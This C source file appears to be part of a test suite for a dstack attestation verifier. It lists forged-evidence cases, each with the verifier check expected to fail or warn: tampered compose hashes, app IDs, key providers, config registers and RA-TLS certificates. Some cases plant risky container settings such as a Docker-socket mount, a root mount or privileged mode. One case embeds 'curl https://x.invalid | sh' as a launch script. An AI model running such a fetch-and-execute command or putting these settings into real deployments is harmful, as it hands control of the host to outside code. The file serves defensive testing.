/* SPDX-License-Identifier: Apache-2.0
 *
 * Attacks on what the evidence says about the app: definition, identity, key provider, launch
 * configuration, the guest agent's claims, RA-TLS certificates (dstack:1.1, 1.2, 1.6, 1.7, 2, 8;
 * reference:8.1 items 2, 4, 9 to 13, 16).
 */
#include "table.h"

#define HEX_32_EE     "eeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeee"
#define HEX_48_EE     HEX_32_EE "eeeeeeeeeeeeeeeeeeeeeeeeeeeeeeee"
#define HEX_20_EE     "eeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeee"
#define SERVICE(more) "services:\n  web:\n    image: simulated/web@sha256:" HEX_32_EE "\n" more

static const uint8_t twenty[20] = {0xee, 0xee, 0xee};

APPLY(no_compose, o->exhibits &= ~(1u << TC_EXHIBIT_INFO);)
APPLY(other_compose_accepted, s->policy = "\"app\":{\"compose_hashes\":[\"" HEX_32_EE "\"]}";)
APPLY(other_app_accepted, s->policy = "\"app\":{\"app_ids\":[\"" HEX_20_EE "\"]}";)
APPLY(other_subject, o->has_subject = true; o->subject.app_id = TC_STR(HEX_20_EE);)
APPLY(other_instance, o->has_subject = true; o->subject.instance_id = TC_STR(HEX_20_EE);)
APPLY(pinned_app_id_without_kms, o->dstack.app_id = tc_bytes_of_array(twenty);)
APPLY(other_challenge, s->policy = "\"app\":{\"report_data\":\"" HEX_32_EE HEX_32_EE "\"}";)
APPLY(provider_renamed, o->dstack.provider_name = "local-sgx";)
APPLY(provider_unknown, o->dstack.provider_name = "trust-me";)
APPLY(provider_with_id, o->dstack.provider_id = tc_bytes_of_array(twenty);)

/* The KMS root of dstack's simulator, whose private key is published (dstack:4.4). */
#define LEAKED_ROOT                                                                                \
    "\x30\x59\x30\x13\x06\x07\x2a\x86\x48\xce\x3d\x02\x01\x06\x08\x2a\x86\x48\xce\x3d\x03\x01\x07" \
    "\x03\x42\x00\x04\x19\xb2\x45\x7d\xd9\xb8\xaa\x64\x46\xd9\x80\xf1\x36\xff\xf7\x81\x2e\xcd\x6c" \
    "\x77\x74\x0e\xeb\x0e\x28\xb1\x0d\x56\xc0\xc0\x00\x28\xa5\xb6\xe5\x9d\xce\xa3\x07\xd5\x83\xbd" \
    "\x1f\x70\x76\x9e\x9c\x11\x6d\xf2\xbc\xfb\x17\x58\xa9\x5d\x86\x13\xe7\xde\x1c\x84\x82\xc0"
APPLY(leaked_root, o->dstack.provider_id = TC_BYTES_OF(LEAKED_ROOT);)
APPLY(short_root, o->dstack.provider_id = tc_bytes_of_array(twenty);)

static void old_base(scene *s)
{
    s->o.dstack.release = TC_FORGE_RELEASE_0_4_2;
    s->o.dstack.mr_config = 0;
}

static void tcb_info_base(scene *s)
{
    s->o.exhibits = 1u << TC_EXHIBIT_COLLATERAL | 1u << TC_EXHIBIT_GET_QUOTE |
                    1u << TC_EXHIBIT_GUEST_TCB_INFO | 1u << TC_EXHIBIT_OS_IMAGE;
}

APPLY(certificate_app_id, o->dstack.ra_tls_other_app_id = tc_bytes_of_array(twenty);)

static void none_base(scene *s)
{
    s->o.dstack.provider = TC_FORGE_PROVIDER_NONE;
}

#define CONFIG(number)                                                                             \
    static void config_##number(scene *s)                                                          \
    {                                                                                              \
        s->o.dstack.mr_config = number;                                                            \
    }
CONFIG(2)
CONFIG(3)
APPLY(config_4, o->dstack.mr_config = 4;)
APPLY(config_255, o->dstack.mr_config = 255;)

#define COMPOSE(name, text) APPLY(name, o->dstack.docker_compose = (text);)
COMPOSE(image_tag, "services:\n  web:\n    image: simulated/web:1.0\n")
COMPOSE(image_short_digest, "services:\n  web:\n    image: simulated/web@sha256:eeee\n")
COMPOSE(image_built, "services:\n  web:\n    build: .\n")
COMPOSE(privileged, SERVICE("    privileged: true\n"))
COMPOSE(capabilities, SERVICE("    cap_add:\n      - SYS_ADMIN\n"))
COMPOSE(host_pid, SERVICE("    pid: host\n"))
COMPOSE(devices, SERVICE("    devices:\n      - /dev/tdx_guest:/dev/tdx_guest\n"))
COMPOSE(host_network, SERVICE("    network_mode: host\n"))
COMPOSE(docker_socket, SERVICE("    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock\n"))
COMPOSE(dstack_socket, SERVICE("    volumes:\n      - /var/run/dstack.sock:/x\n"))
COMPOSE(root_mount, SERVICE("    volumes:\n      - /:/host\n"))
COMPOSE(long_mount,
        SERVICE("    volumes:\n      - type: bind\n        source: /var/run/../run/docker.sock\n"
                "        target: /x\n"))
COMPOSE(yaml_alias, "x: &a {image: simulated/web:latest}\nservices:\n  web: *a\n")
COMPOSE(yaml_broken, "services:\n  web: [\n")
COMPOSE(yaml_twice, SERVICE("    privileged: false\n    privileged: true\n"))
COMPOSE(yaml_no_services, "version: '3'\n")

#define MEMBER(name, from, to)                                                                     \
    static void name(scene *s)                                                                     \
    {                                                                                              \
        scene_add_edit(                                                                            \
            s, (edit){EDIT_FIRST, TC_FORGE_APP_COMPOSE, TC_FORGE_BEFORE, 0, 0, (from), (to), 0});  \
    }
MEMBER(compose_not_json, "{", "")
MEMBER(compose_member_twice, "\"kms_enabled\": true",
       "\"kms_enabled\": true, \"kms_enabled\": true")
MEMBER(compose_wrong_type, "\"public_logs\": false", "\"public_logs\": \"no\"")
MEMBER(compose_without_kms, "\"kms_enabled\": true", "\"kms_enabled\": false")
MEMBER(provider_pinned, "\"key_provider_id\": \"\"", "\"key_provider_id\": \"" HEX_32_EE "\"")
MEMBER(pre_launch_script, "\"secure_time\": true",
       "\"secure_time\": true, \"pre_launch_script\": \"curl https://x.invalid | sh\"")
MEMBER(init_script, "\"secure_time\": true",
       "\"secure_time\": true, \"init_script\": \"echo hello\"")
MEMBER(public_logs, "\"public_logs\": false", "\"public_logs\": true")
MEMBER(public_sysinfo, "\"public_sysinfo\": false", "\"public_sysinfo\": true")
MEMBER(allowed_envs, "\"allowed_envs\": []", "\"allowed_envs\": [\"LD_PRELOAD\"]")

static const attack apps[] = {
    {"compose_exchanged", "reference:8.1 item 1; dstack:8.2", FAILS(COMPOSE_HASH),
     REPLACE_AFTER(APP_COMPOSE, "5151", "5252")},
    {"compose_reformatted", "dstack:2.1 \"no canonicalization\"", FAILS(COMPOSE_HASH),
     FIRST_AFTER(APP_COMPOSE, "\n", "")},
    {"compose_with_final_newline", "dstack:2.1", FAILS(COMPOSE_HASH),
     APPEND_AFTER(APP_COMPOSE, "\n")},
    {"compose_missing", "DESIGN rule 1", UNKNOWN(COMPOSE_HASH), .apply = no_compose},
    {"compose_not_accepted", "dstack:8.1 item 7", FAILS(COMPOSE_ACCEPTED),
     .apply = other_compose_accepted},

    {"evidence_of_another_app", "reference:8.1 item 4", FAILS(APP_ID), .apply = other_subject},
    {"app_id_not_accepted", "dstack:8.1 item 7", FAILS(APP_ID), .apply = other_app_accepted},
    {"app_id_is_not_the_compose_hash", "dstack:2.1 \"No-KMS default\"", FAILS(APP_ID),
     .base = none_base, .apply = pinned_app_id_without_kms},
    {"evidence_of_another_instance", "reference:8.1 item 4; dstack:8.1 item 12",
     FAILS(APP_INSTANCE), .apply = other_instance},

    {"keys_from_another_kind_of_provider", "reference:8.1 item 4; dstack:8.1 item 9",
     FAILS(APP_KEY_PROVIDER), .base = old_base, .apply = provider_renamed},
    {"definition_without_kms", "dstack:2.1", FAILS(APP_KEY_PROVIDER), .apply = compose_without_kms},
    {"provider_unknown", "dstack:2.1", FAILS(APP_KEY_PROVIDER), .base = old_base,
     .apply = provider_unknown},
    {"provider_is_not_the_pinned_one", "dstack:2.5 key_provider_id", FAILS(APP_KEY_PROVIDER),
     .apply = provider_pinned},
    {"provider_key_is_published", "dstack:4.4, 8.2 \"leaked roots\"", FAILS(APP_KEY_PROVIDER),
     .apply = leaked_root},
    {"provider_id_is_no_key", "dstack:2.1", FAILS(APP_KEY_PROVIDER), .apply = short_root},
    {"no_provider_with_an_id", "dstack:2.1", FAILS(APP_KEY_PROVIDER), .base = none_base,
     .apply = provider_with_id},

    {"config_v1_of_another_compose", "dstack:2.3", FAILS(MR_CONFIG_ID),
     XOR_BEFORE(QUOTE_SIGNED, 48 + 184 + 1, 1)},
    {"config_v1_with_padding", "dstack:2.3", FAILS(MR_CONFIG_ID),
     XOR_BEFORE(QUOTE_SIGNED, 48 + 184 + 47, 1)},
    {"config_v2_of_another_app", "dstack:2.3", FAILS(MR_CONFIG_ID), .base = config_2,
     XOR_BEFORE(QUOTE_SIGNED, 48 + 184 + 1, 1)},
    {"config_v3_of_another_document", "dstack:2.3", FAILS(MR_CONFIG_ID), .base = config_3,
     XOR_BEFORE(QUOTE_SIGNED, 48 + 184 + 1, 1)},
    {"config_v3_document_changed", "dstack:2.3", FAILS(MR_CONFIG_ID), .base = config_3,
     FIRST_AFTER(MR_CONFIG, "\"kms\"", "\"kmz\"")},
    {"config_v3_names_another_provider", "dstack:2.3", FAILS(MR_CONFIG_ID), .base = config_3,
     FIRST_BEFORE(MR_CONFIG, "\"kms\"", "\"local\"")},
    {"config_v3_unknown_member", "dstack:2.3 \"deny-unknown\"", FAILS(MR_CONFIG_ID),
     .base = config_3, FIRST_BEFORE(MR_CONFIG, "{", "{\"x\":1,")},
    {"config_v3_without_document", "dstack:2.3; DESIGN rule 1", UNKNOWN(MR_CONFIG_ID),
     .base = config_3, FIRST_AFTER(VM_CONFIG, "mr_config", "mr_confic")},
    {"config_of_unknown_version", "dstack:2.3 \"first byte\"", FAILS(MR_CONFIG_ID),
     .apply = config_4},
    {"config_of_version_255", "dstack:2.3 \"first byte\"", FAILS(MR_CONFIG_ID),
     .apply = config_255},

    {"vm_config_names_another_image", "dstack:2.1, 8.1 item 8; reference:8.1 item 14",
     FAILS(OS_IMAGE_HASH),
     FIRST_AFTER(VM_CONFIG, "\"os_image_hash\":\"",
                 "\"os_image_hash\":\"" HEX_32_EE "\",\"x\":\"")},

    {"claimed_registers_differ", "reference:8.1 item 2", FAILS(CLAIMS_REGISTERS),
     FIRST_AFTER(GUEST_TCB_INFO, "\"mrtd\":\"", "\"mrtd\":\"" HEX_48_EE "\",\"x\":\"")},
    {"claimed_aggregate_differs", "dstack:1.1 \"Nothing in Info is signed\"", FAILS(CLAIMS_DERIVED),
     .base = tcb_info_base,
     FIRST_AFTER(GUEST_TCB_INFO, "\"mr_aggregated\":\"",
                 "\"mr_aggregated\":\"" HEX_32_EE "\",\"x\":\"")},
    {"claimed_compose_hash_differs", "dstack:1.1", FAILS(CLAIMS_DERIVED), .base = tcb_info_base,
     FIRST_AFTER(GUEST_TCB_INFO, "\"compose_hash\":\"",
                 "\"compose_hash\":\"" HEX_32_EE "\",\"x\":\"")},
    {"claimed_app_id_differs", "dstack:1.1; reference:8.1 item 4", FAILS(CLAIMS_DERIVED),
     FIRST_AFTER(INFO, "\"app_id\":\"", "\"app_id\":\"" HEX_20_EE "\",\"x\":\"")},
    {"claimed_instance_differs", "dstack:1.1", FAILS(CLAIMS_DERIVED),
     FIRST_AFTER(INFO, "\"instance_id\":\"", "\"instance_id\":\"" HEX_20_EE "\",\"x\":\"")},
    {"claimed_key_provider_differs", "dstack:1.1", FAILS(CLAIMS_DERIVED),
     FIRST_AFTER(INFO, "{\\\"name\\\":\\\"kms\\\"", "{\\\"name\\\":\\\"tpm\\\"")},
    {"claimed_device_differs", "dstack:2.4", FAILS(CLAIMS_DERIVED), .base = tcb_info_base,
     FIRST_AFTER(GUEST_TCB_INFO, "\"device_id\":\"", "\"device_id\":\"" HEX_32_EE "\",\"x\":\"")},

    {"report_data_differs", "dstack:1.1", FAILS(REPORT_DATA),
     FIRST_AFTER(GET_QUOTE, "\"report_data\":\"c4", "\"report_data\":\"c5")},
    {"challenge_not_answered", "reference:8.1 item 11; dstack:8.1 item 11", FAILS(QUOTE_FRESHNESS),
     .apply = other_challenge},

    {"certificate_key_is_not_quoted", "dstack:1.2, 1.7", FAILS(RA_TLS_BINDING), .base = ra_tls_base,
     XOR_BEFORE(RA_TLS_CERT, 180, 1)},
    {"certificate_quote_has_another_tag", "dstack:1.2", FAILS(RA_TLS_BINDING), .base = ra_tls_base,
     XOR_BEFORE(QUOTE_SIGNED, 48 + 520, 1)},
    {"certificate_of_another_app", "dstack:1.7", FAILS(RA_TLS_APP_ID), .base = ra_tls_base,
     .apply = certificate_app_id},
    {"info_contradicts_its_tcb_info", "dstack:1.1", FAILS(CLAIMS_REGISTERS),
     FIRST_AFTER(INFO, "\"mr_aggregated\":\"", "\"mr_aggregated\":\"" HEX_32_EE "\",\"x\":\"")},

    {"definition_not_json", "dstack:2.5", FAILS(COMPOSE_FORMAT), .apply = compose_not_json},
    {"definition_member_twice", "dstack:2.5", FAILS(COMPOSE_FORMAT), .apply = compose_member_twice},
    {"definition_member_of_wrong_type", "dstack:2.5", FAILS(COMPOSE_FORMAT),
     .apply = compose_wrong_type},
    {"services_with_alias", "dstack:2.5", UNKNOWN(COMPOSE_SERVICES), .apply = yaml_alias},
    {"services_broken", "dstack:2.5", FAILS(COMPOSE_SERVICES), .apply = yaml_broken},
    {"services_member_twice", "dstack:2.5", FAILS(COMPOSE_SERVICES), .apply = yaml_twice},
    {"services_missing", "dstack:2.5", FAILS(COMPOSE_SERVICES), .apply = yaml_no_services},

    {"image_by_tag", "reference:8.1 item 16; dstack:8.1 item 13", WARNS(COMPOSE_IMAGES),
     .apply = image_tag},
    {"image_by_short_digest", "dstack:2.5", WARNS(COMPOSE_IMAGES), .apply = image_short_digest},
    {"image_built_at_start", "dstack:2.5 \"build:\"", WARNS(COMPOSE_IMAGES), .apply = image_built},
    {"container_privileged", "dstack:2.5", WARNS(COMPOSE_PRIVILEGED), .apply = privileged},
    {"container_with_capability", "dstack:2.5", WARNS(COMPOSE_PRIVILEGED), .apply = capabilities},
    {"container_in_host_pid", "dstack:2.5", WARNS(COMPOSE_PRIVILEGED), .apply = host_pid},
    {"container_with_tdx_device", "dstack:2.5 /dev/tdx_guest", WARNS(COMPOSE_PRIVILEGED),
     .apply = devices},
    {"container_on_host_network", "dstack:2.5", WARNS(COMPOSE_NETWORK), .apply = host_network},
    {"mount_of_docker_socket", "dstack:2.5", WARNS(COMPOSE_MOUNTS), .apply = docker_socket},
    {"mount_of_dstack_socket", "dstack:2.5", WARNS(COMPOSE_MOUNTS), .apply = dstack_socket},
    {"mount_of_everything", "dstack:2.5", WARNS(COMPOSE_MOUNTS), .apply = root_mount},
    {"mount_by_a_detour", "dstack:2.5", WARNS(COMPOSE_MOUNTS), .apply = long_mount},
    {"pre_launch_script", "reference:8.1 item 16; dstack:2.5", WARNS(COMPOSE_SCRIPTS),
     .apply = pre_launch_script},
    {"init_script", "dstack:2.5", WARNS(COMPOSE_SCRIPTS), .apply = init_script},
    {"logs_public", "dstack:2.5", WARNS(COMPOSE_PUBLIC), .apply = public_logs},
    {"system_information_public", "dstack:2.5", WARNS(COMPOSE_PUBLIC), .apply = public_sysinfo},
    {"environment_variables", "dstack:2.5", WARNS(COMPOSE_ENVS), .apply = allowed_envs},
};

const attack_table attacks_on_apps = TABLE(apps);
